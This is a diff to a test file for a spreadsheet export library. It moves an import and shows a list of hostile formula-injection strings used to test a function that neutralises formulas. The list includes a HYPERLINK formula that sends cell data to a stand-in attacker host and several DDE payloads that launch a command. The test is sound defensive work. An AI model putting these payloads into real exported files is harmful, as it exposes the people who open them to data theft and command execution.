@@ -10,8 +10,9 @@ import pandas as pd
 from hypothesis import given
 from hypothesis import strategies as st
 
+from xlperf.core.values import FORMULA_STARTS
 from xlperf.ledger import Ledger, export, write_export
-from xlperf.ledger._export import FORMULA_STARTS, neutralise_formulas
+from xlperf.ledger._export import neutralise_formulas
 
 HOSTILE = ["=HYPERLINK(\"http://evil.example/?\"&A1,\"Click\")", "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=cmd|' /C calc'!A0",
